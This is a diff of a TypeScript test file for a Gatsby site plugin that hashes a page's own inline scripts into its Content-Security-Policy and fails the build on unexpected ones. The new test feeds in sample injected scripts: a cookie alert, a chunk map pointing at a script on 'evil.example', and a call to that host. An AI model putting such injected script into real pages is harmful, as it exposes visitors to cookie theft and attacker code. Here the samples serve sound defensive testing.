@@ -3,31 +3,31 @@
  *
  * Which inline scripts of a built page get a hash in its Content-Security-Policy.
  */
+import fs from "node:fs";
+import path from "node:path";
 import { cspHash, findScripts, isExecutableInline, pageScriptHashes } from "../../plugins/publish/inline-scripts";
+import { bundleLoader } from "../../plugins/publish/page-scripts";
 
-// The inline scripts Gatsby writes into every page, shortened.
-const gatsby = {
-  headImage: 'const e="undefined"!=typeof HTMLImageElement&&"loading"in HTMLImageElement.prototype;e&&1',
-  bodyImage: 'const t="undefined"!=typeof HTMLImageElement&&"loading"in HTMLImageElement.prototype;if(t){}',
-  loader: '/*<![CDATA[*/window.pagePath="/terms";/*]]>*/',
-  chunkMap: '\n            window.___chunkMapping="{}";\n          ',
-  compilationHash: 'window.___webpackCompilationHash="d7257f31ed14ff134384";',
-};
-const gatsbyHashes = Object.values(gatsby).map(cspHash);
+// The inline scripts of a built page: gatsby-plugin-image's two as they are (from a build), Gatsby's chunk map and
+// compilation hash, and the bundle loader.
+const built = fs.readFileSync(path.join(__dirname, "files/image-scripts.html"), "utf8");
+const [headImage, bodyImage] = findScripts(built).map((script) => script.text);
+const chunkMap = '\n            window.___chunkMapping="{\\"app\\":[\\"/app-c756560fdedc456b983c.js\\"]}";\n          ';
+const compilationHash = 'window.___webpackCompilationHash="d7257f31ed14ff134384";';
+const gatsbyHashes = [headImage!, bodyImage!, chunkMap, compilationHash, bundleLoader()].map(cspHash);
 const jsonLd = '{"@context":"https://schema.org","@type":"Organization"}';
 
 /** A page shaped like Gatsby's output. */
 function page(body: string): string {
   return [
-    `<!DOCTYPE html><html lang="en"><head><script type="module">${gatsby.headImage}</script>`,
+    `<!DOCTYPE html><html lang="en"><head><script type="module">${headImage}</script>`,
     `<script type="application/ld+json" data-gatsby-head="true">${jsonLd}</script></head><body>`,
     `<div id="___gatsby"><main><div class="prose mx-auto">${body}</div>`,
-    `<img data-main-image="" data-src="/static/a.jpg"><script type="module">${gatsby.bodyImage}</script>`,
-    `<img data-main-image="" data-src="/static/b.jpg"><script type="module">${gatsby.bodyImage}</script></main></div>`,
-    `<script id="gatsby-script-loader">${gatsby.loader}</script>`,
-    `<script\n            id="gatsby-chunk-mapping"\n          >${gatsby.chunkMap}</script>`,
-    `<script>${gatsby.compilationHash}</script>`,
-    `<script src="/webpack-runtime-411c99b32f2905b8356c.js" async></script></body></html>`,
+    `<img data-main-image="" data-src="/static/a.jpg"><script type="module">${bodyImage}</script>`,
+    `<img data-main-image="" data-src="/static/b.jpg"><script type="module">${bodyImage}</script></main></div>`,
+    `<script\n            id="gatsby-chunk-mapping"\n          >${chunkMap}</script>`,
+    `<script>${compilationHash}</script>`,
+    `<script id="bundle-loader" data-page="/" data-bundles='["/app.js"]'>${bundleLoader()}</script></body></html>`,
   ].join("");
 }
 
@@ -69,9 +69,24 @@ describe("findScripts and isExecutableInline", () => {
 });
 
 describe("pageScriptHashes", () => {
-  it("hashes each of Gatsby's executable inline scripts once, and not the JSON-LD", () => {
-    const hashes = pageScriptHashes(page("<p>Terms</p>"));
+  it("hashes each inline script the site writes once, and not the JSON-LD", () => {
+    const hashes = pageScriptHashes(page("<p>Terms</p>"), "terms.html");
     expect(hashes).toEqual(gatsbyHashes);
     expect(hashes).not.toContain(cspHash(jsonLd));
+  });
+
+  it("stops the build on any other inline script, naming the page and the script", () => {
+    for (const script of [
+      "alert(document.cookie)",
+      'window.___chunkMapping="{\\"app\\":[\\"https://evil.example/x.js\\"]}";',
+      'window.___webpackCompilationHash="1";fetch("//evil.example")',
+      bundleLoader() + ";",
+    ]) {
+      expect(() => pageScriptHashes(page(`<script>${script}</script>`), "terms.html")).toThrow(
+        new RegExp(
+          `^Security headers: terms\\.html has no inline script but those the site writes .*; it has "${script.slice(0, 10).replace(/[.*()[\]\\]/g, "\\$&")}`,
+        ),
+      );
+    }
   });
 });
